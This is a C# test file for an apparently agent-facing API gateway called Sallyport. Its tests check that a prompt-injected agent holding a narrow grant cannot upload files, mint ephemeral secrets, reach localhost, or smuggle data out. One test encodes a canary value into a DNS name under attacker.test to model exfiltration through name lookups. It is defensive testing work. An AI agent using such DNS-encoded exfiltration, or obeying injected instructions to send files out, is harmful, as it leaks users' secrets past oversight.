using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Microsoft.AspNetCore.Http;
using Sallyport.Core.Policy;
using Sallyport.Core.Providers;
using Sallyport.Core.Settings;
using Xunit;

namespace Sallyport.Tests.Broker;

/// <summary>An agent that was talked into something, under a grant of Responses alone.</summary>
public sealed class InjectedAgentTests
{
    private static readonly Provider s_openai = GateFixture.Example with
    {
        Operations = ProviderCatalogLoader.BuiltIn.Single(p => p.Name == "openai").Operations,
    };

    private int _asked;

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("/v1/files")]
    [InlineData("/v1/uploads")]
    [InlineData("/v1/uploads/upload_1/parts")]
    [InlineData("/v1/vector_stores/vs_1/files")]
    [InlineData("/v1/containers/c_1/files")]
    public async Task It_uploads_no_file_with_a_grant_of_responses(string path)
    {
        await using var gate = await StartAsync(new EgressRules());
        Assert.Equal("group-not-granted", await SendAsync(gate, path));
        Assert.Null(await SendAsync(gate, "/v1/responses"));
        Assert.Equal(1, _asked);
    }

    [Theory]
    [InlineData("/v1/realtime/client_secrets")]
    [InlineData("/v1/realtime/sessions")]
    [InlineData("/v1/chatkit/sessions")]
    public async Task It_mints_no_ephemeral_secret_even_with_a_grant_of_everything(string path)
    {
        await using var gate = await StartAsync(new EgressRules(), SessionSetup.Everything);
        Assert.Equal("group-not-granted", await SendAsync(gate, path));
        Assert.Null(await SendAsync(gate, "/v1/responses"));
        Assert.Equal(1, _asked);
    }

    [Fact]
    public async Task It_sends_nothing_out_in_a_name_that_is_looked_up()
    {
        using var lookups = new Lookups();
        await using var gate = await StartAsync(new EgressRules { DefaultAllow = false, Allow = ["*.allowed.test:443"] });
        // What it wants out stands in the name: whoever answers for the domain would read it from the question.
        var name = Convert.ToHexStringLower("CANARY environment"u8) + ".attacker.test";
        using var client = gate.Client();

        var refused = await Assert.ThrowsAsync<HttpRequestException>(() => client.GetAsync($"https://{name}/", Token));
        Assert.Contains("403", refused.ToString(), StringComparison.Ordinal);
        using (var plain = new HttpClient(new SocketsHttpHandler { Proxy = new WebProxy($"http://127.0.0.1:{gate.Gate.Port}") { Credentials = new NetworkCredential(gate.Session.ProxyUser, gate.Session.ProxyPassword) } }))
        using (var answer = await plain.GetAsync($"http://{name}/", Token))
            Assert.Equal("egress-denied", answer.Headers.GetValues("x-sallyport-rule").Single());

        Assert.DoesNotContain(lookups.Names, n => n.Contains("attacker", StringComparison.Ordinal));
        Assert.Contains(gate.Journal.Entries, e => e.Type == "tunnel.denied" && e.Host == name + ":443" && e.Rule == "egress-denied");
        // It would be noticed: this one is looked up.
        await Dns.GetHostAddressesAsync("localhost", Token);
        Assert.Contains("localhost", lookups.Names);
    }

    [Fact]
    public async Task A_name_that_resolves_to_this_machine_gets_neither_tunnel_nor_request()
    {
        await using var gate = await StartAsync(new EgressRules());
        using var client = gate.Client();
        var refused = await Assert.ThrowsAsync<HttpRequestException>(() => client.GetAsync($"https://localhost:{gate.Gate.Port}/", Token));
        Assert.Contains("403", refused.ToString(), StringComparison.Ordinal);
        Assert.Contains(gate.Journal.Entries, e => e.Type == "tunnel.denied" && e.Rule == "local-address");
    }

    private Task<GateFixture> StartAsync(EgressRules egress, PermissionSet? permissions = null) => GateFixture.StartAsync(
        http =>
        {
            Interlocked.Increment(ref _asked);
            return http.Response.WriteAsync("{}");
        },
        setup: s =>
        {
            s.Provider = s_openai;
            s.Policy = new PolicySnapshot
            {
                Version = 1,
                Agents = new Dictionary<string, AgentPolicy>
                {
                    ["test"] = new()
                    {
                        Name = "test",
                        Egress = egress,
                        Grants =
                        [
                            new Grant
                            {
                                Agent = "test",
                                Credential = "example/default",
                                Permissions = permissions ?? new PermissionSet { Groups = new Dictionary<string, Access> { ["responses"] = Access.Write } },
                            },
                        ],
                    },
                },
            };
        });

    private static async Task<string?> SendAsync(GateFixture gate, string path)
    {
        using var client = gate.Client();
        using var request = new HttpRequestMessage(HttpMethod.Post, path) { Content = new StringContent("{}", Encoding.UTF8, "application/json") };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", gate.Placeholder);
        using var answer = await client.SendAsync(request, Token);
        return answer.Headers.TryGetValues("x-sallyport-rule", out var rules) ? rules.Single() : null;
    }

    /// <summary>The names that this process has looked up.</summary>
    private sealed class Lookups : IDisposable
    {
        private readonly ConcurrentQueue<string> _names = new();
        private readonly ActivityListener _listener;

        public Lookups()
        {
            _listener = new ActivityListener
            {
                ShouldListenTo = static source => source.Name == "Experimental.System.Net.NameResolution",
                Sample = static (ref _) => ActivitySamplingResult.AllData,
                ActivityStopped = activity => _names.Enqueue(activity.GetTagItem("dns.question.name")?.ToString() ?? ""),
            };
            ActivitySource.AddActivityListener(_listener);
        }

        public IReadOnlyCollection<string> Names => _names;

        public void Dispose() => _listener.Dispose();
    }
}
